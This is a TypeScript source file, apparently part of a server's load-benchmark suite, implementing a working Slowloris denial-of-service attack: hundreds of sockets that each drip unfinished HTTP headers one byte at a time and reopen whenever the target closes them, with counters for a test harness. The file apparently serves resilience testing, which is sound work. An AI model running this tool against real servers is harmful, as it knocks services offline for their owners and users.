/**
 * Slowloris, as an attacker runs it: `sockets` connections to the target, each sending a
 * request's headers one byte a second and never ending them (no blank line, so no request is
 * ever complete). A socket the target closes is opened again at its next byte, so that the
 * count stays at `sockets` for as long as the process runs, as a real attacker keeps it.
 *
 * Its own process, so that the load generator beside it keeps its timing. The bytes are spread
 * over the second (socket i at i/sockets of it), not sent as one burst of 500 writes.
 *
 * Run: `node --import tsx bench/load/slowloris.ts '<json SlowlorisOptions>'`; prints
 * `{"ready":true,"open":N}` once every socket is open and has sent its first byte. `stats` on
 * stdin answers one JSON line (SlowlorisStats). SIGTERM closes the sockets and exits.
 */
import { connect, type Socket } from 'node:net'
import { createInterface } from 'node:readline'

export interface SlowlorisOptions {
  /** The target's URL: its host, port and path go into the request line. */
  url: string
  /** Default 500. */
  sockets?: number
  /** Milliseconds between two bytes of one socket (default 1000). */
  intervalMs?: number
}

export interface SlowlorisStats {
  /** Sockets open now. */
  slowlorisOpen: number
  /** The fewest open at any tick since the last `stats` (or since ready). */
  slowlorisOpenMin: number
  /** Closed by the target (an end or a reset it sent), since the last `stats`. */
  slowlorisClosedByServer: number
  /** Opened again after such a close, since the last `stats`. */
  slowlorisReopened: number
  /** Sockets that received any byte (a 408 or 400 the target sent before closing), since the last `stats`. */
  slowlorisAnswered: number
  /** Connections the target refused or that failed to open, since the last `stats`. */
  slowlorisConnectErrors: number
  slowlorisBytesSent: number
}

/** One socket: sends the request line and headers byte by byte, then `X-Slow` bytes, forever. */
class SlowSocket {
  socket: Socket | undefined
  connecting = false
  #sent = 0
  constructor(
    readonly target: { host: string; port: number; head: string },
    readonly events: { byte(): void; closedByServer(): void; answered(): void; connectError(): void },
  ) {}

  /** Resolves once connected (and the first byte sent) or failed. */
  open(): Promise<void> {
    this.connecting = true
    this.#sent = 0
    return new Promise((resolve) => {
      const s = connect(this.target.port, this.target.host)
      let byServer = false
      s.on('data', () => this.events.answered())
      s.on('end', () => (byServer = true))
      s.on('error', (err: NodeJS.ErrnoException) => {
        if (this.connecting) this.events.connectError()
        else if (err.code === 'ECONNRESET' || err.code === 'EPIPE') byServer = true
      })
      s.on('close', () => {
        if (byServer) this.events.closedByServer()
        if (this.socket === s) this.socket = undefined
        this.connecting = false
        resolve()
      })
      s.once('connect', () => {
        this.connecting = false
        this.socket = s
        this.drip()
        resolve()
      })
    })
  }

  /** The next byte, if open: the request line and headers, then the value of `X-Slow`, which never ends. */
  drip(): boolean {
    if (!this.socket) return false
    const head = this.target.head
    this.socket.write(this.#sent < head.length ? head[this.#sent] : 'a')
    this.#sent++
    this.events.byte()
    return true
  }
}

export interface Slowloris {
  /** Resolves once every socket has been opened (or failed to), with how many are open. */
  ready: Promise<number>
  /** The figures since the last call (or since ready), and a fresh start. */
  stats(): SlowlorisStats
  stop(): void
}

export function runSlowloris(o: SlowlorisOptions): Slowloris {
  const url = new URL(o.url)
  const count = o.sockets ?? 500
  const intervalMs = o.intervalMs ?? 1000
  const head = `POST ${url.pathname}${url.search} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nX-Slow: `
  const target = { host: url.hostname, port: Number(url.port), head }
  const counters = { closedByServer: 0, reopened: 0, answered: 0, connectErrors: 0, bytes: 0 }
  const events = {
    byte: () => void counters.bytes++,
    closedByServer: () => void counters.closedByServer++,
    answered: () => void counters.answered++,
    connectError: () => void counters.connectErrors++,
  }
  const sockets = Array.from({ length: count }, () => new SlowSocket(target, events))
  const openNow = (): number => sockets.filter((s) => s.socket !== undefined).length
  // In groups of 50: 500 connects at once can overflow a busy target's accept queue.
  const ready = (async (): Promise<number> => {
    for (let i = 0; i < count; i += 50) await Promise.all(sockets.slice(i, i + 50).map((s) => s.open()))
    return openNow()
  })()
  let openMin = count
  // Ticks of 20 ms, each for its share of the sockets: a byte from each one open, a new connection for each one the target closed.
  const tickMs = 20
  const slices = Math.max(1, Math.round(intervalMs / tickMs))
  let tick = 0
  let timer: NodeJS.Timeout | undefined
  void ready.then(() => {
    openMin = openNow()
    timer = setInterval(() => {
      const slice = tick++ % slices
      for (let i = slice; i < count; i += slices) {
        const s = sockets[i]
        if (s.drip() || s.connecting) continue
        counters.reopened++
        void s.open()
      }
      openMin = Math.min(openMin, openNow())
    }, tickMs)
  })
  return {
    ready,
    stats() {
      const now = openNow()
      const out: SlowlorisStats = {
        slowlorisOpen: now,
        slowlorisOpenMin: Math.min(openMin, now),
        slowlorisClosedByServer: counters.closedByServer,
        slowlorisReopened: counters.reopened,
        slowlorisAnswered: counters.answered,
        slowlorisConnectErrors: counters.connectErrors,
        slowlorisBytesSent: counters.bytes,
      }
      openMin = now
      Object.assign(counters, { closedByServer: 0, reopened: 0, answered: 0, connectErrors: 0, bytes: 0 })
      return out
    },
    stop() {
      clearInterval(timer)
      for (const s of sockets) s.socket?.destroy()
    },
  }
}

if (process.argv[1] && import.meta.filename === process.argv[1]) {
  const run = runSlowloris(JSON.parse(process.argv[2]) as SlowlorisOptions)
  const open = await run.ready
  process.stdout.write(JSON.stringify({ ready: true, open }) + '\n')
  const lines = createInterface({ input: process.stdin })
  lines.on('line', (line) => {
    if (line.trim() === 'stats') process.stdout.write(JSON.stringify(run.stats()) + '\n')
  })
  lines.on('close', () => {})
  process.once('SIGTERM', () => {
    run.stop()
    process.exit(0)
  })
}
